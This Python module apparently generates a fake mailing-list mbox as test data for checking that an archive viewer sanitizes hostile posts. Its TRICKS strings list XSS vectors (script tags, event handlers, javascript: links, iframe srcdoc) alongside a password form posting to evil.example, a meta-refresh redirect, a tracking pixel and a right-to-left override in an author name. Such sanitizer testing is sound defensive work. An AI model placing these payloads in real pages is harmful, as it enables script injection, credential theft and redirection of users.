"""A made-up mailing list that tries everything on whoever looks at it, and one conversation that goes on for pages."""

from __future__ import annotations

from base64 import b64encode
from html import escape

TITLE = "<script>window.__ran=1</script><img src=x onerror=window.__ran=1> Quotes & tricks"
HUGE_WORD = "Donaudampfschifffahrtsgesellschaftskapitänsmütze" * 12
LONG_TOPIC = "A conversation of many pages"
LONG = 45  # posts
LIST = "Tricks and treats"
# What a post must never do: run, reach out, cover the page, or send what is typed elsewhere.
TRICKS = """
<script>window.__ran = "script"; alert(1)</script>
<img src="x" onerror="window.__ran = 'onerror'">
<svg onload="window.__ran = 'svg'"><script>window.__ran = "svg script"</script></svg>
<a href="javascript:window.__ran='link'">a friendly link</a>
<a href="data:text/html,<script>window.__ran=1</script>">another link</a>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.__ran=1</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>body { display: none } @import "https://evil.example/import.css";</style>
<div style="position: fixed; inset: 0; background: url(https://evil.example/back.png); z-index: 99999">
Over all of it</div>
<form action="https://evil.example/form">
<input name="password" autofocus onfocus="window.__ran = 'focus'"><button>Go</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh"><base href="https://evil.example/">
<video src="https://evil.example/film.mp4" autoplay onloadstart="window.__ran = 'film'"></video>
<details open ontoggle="window.__ran = 'toggle'"><summary>Look</summary></details>
<p id="main" class="skip">The words that matter are still here.</p>
"""
MARKDOWN_TRICKS = """\
[a link](javascript:window.__ran=1) and <javascript:window.__ran=1> and ![picture](https://evil.example/pixel.png)

<img src=x onerror="window.__ran=1"> <script>window.__ran=1</script>

[quote="x, post:1, topic:1"]<script>window.__ran=1</script>[/quote]
"""
WIDE = (
    "<table><tr>"
    + "".join(f"<th>Column number {n}</th>" for n in range(14))
    + "</tr><tr>"
    + "".join(f"<td>{n * 123456789}</td>" for n in range(14))
    + "</tr></table><pre>"
    + escape("for (let i = 0; i < 10; i++) { " * 12)
    + "</pre><ul><li><ul><li><ul><li><ul><li><ul><li>deep</li></ul></li></ul></li></ul></li></ul></li></ul>"
)
ARABIC = "مرحبا بالجميع، متى نزرع الطماطم هذا العام؟ الجو ما زال باردا في الصباح."


def mails() -> bytes:
    """The list as an mbox."""
    found = [
        _mail(0, TITLE, TRICKS, html=True),
        _mail(1, f"Re: {TITLE}", MARKDOWN_TRICKS, answers=0),
        _mail(2, HUGE_WORD, HUGE_WORD + "\n\nhttps://example.org/" + "a" * 300),
        _mail(3, "Wide things", WIDE, html=True),
        _mail(4, ARABIC[:40], ARABIC, author="ليلى \u202eevil"),
        *(_long(number) for number in range(LONG)),
    ]
    return b"".join(found)


def _long(number: int) -> bytes:
    text = f"Wednesday's turn number {number} was mine. zucchinifest\n"
    if number:
        said = f"Wednesday's turn number {number - 1} was mine. zucchinifest"
        text = f"Gardener {(number - 1) % 7} wrote:\n> {said}\n\n{text}"
    subject = ("Re: " if number else "") + LONG_TOPIC
    return _mail(100 + number, subject, text, answers=99 + number if number else None)


def _mail(
    number: int, subject: str, text: str, *, html: bool = False, answers: int | None = None, author: str = ""
) -> bytes:
    name = author or f"Gardener {number % 7}"
    address = f"gardener{number % 7 if not author else 9}@example.net"
    day, hour = 1 + number // 20, number % 20
    encoded = b64encode(text.encode()).decode()
    lines = [
        f"From {address} Mon Jun {day:2} {hour:02}:00:00 2020",
        f"From: {_word(name)} <{address}>",
        f"Date: {day:02} Jun 2020 {hour:02}:00:00 +0000",
        f"Subject: {_word(subject)}",
        f"Message-ID: <tricks-{number}@example.net>",
        *([f"In-Reply-To: <tricks-{answers}@example.net>"] if answers is not None else []),
        f"List-Id: {LIST} <tricks.example.net>",
        "MIME-Version: 1.0",
        f"Content-Type: text/{'html' if html else 'plain'}; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        *(encoded[at : at + 76] for at in range(0, len(encoded), 76)),
        "",
        "",
    ]
    return "\n".join(lines).encode()


def _word(text: str) -> str:
    return f"=?utf-8?b?{b64encode(text.encode()).decode()}?="
